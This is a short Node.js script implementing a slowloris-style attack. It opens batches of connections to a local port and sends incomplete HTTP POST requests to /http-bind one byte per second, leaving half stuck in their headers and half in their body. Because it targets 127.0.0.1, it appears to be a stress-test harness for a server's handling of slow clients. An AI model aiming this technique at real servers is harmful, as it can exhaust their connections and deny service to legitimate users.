// Opens connections that send a request one byte a second; a program of its own, as such attackers are.
// Arguments: the port, and how many connections. Prints how many are open whenever that changes.
import { connect } from 'node:net'

const [port, count] = process.argv.slice(2).map(Number)
/** As many at a time as a backlog takes. */
const batch = 100

/** Half of them never come to the end of their header, the others not to that of their body. */
const headers = 'POST /http-bind HTTP/1.1\r\nHost: a\r\nX-Slow: '
const whole = 'POST /http-bind HTTP/1.1\r\nHost: a\r\nContent-Length: 10000\r\n\r\n'

const open = new Set()
for (let begun = 0; begun < count; begun += batch) {
  await Promise.all(Array.from({ length: Math.min(batch, count - begun) }, (_, at) => begin(begun + at)))
  tell()
}
setInterval(() => {
  for (const socket of open) socket.write('x')
}, 1_000)
setInterval(tell, 200)

function begin(number) {
  return new Promise(resolve => {
    const socket = connect(port, '127.0.0.1', () => {
      open.add(socket)
      socket.write(number % 2 === 0 ? headers : whole)
      resolve()
    })
    socket.resume()
    socket.on('error', () => resolve())
    socket.on('close', () => open.delete(socket))
  })
}

function tell() {
  process.stdout.write(`${open.size}\n`)
}
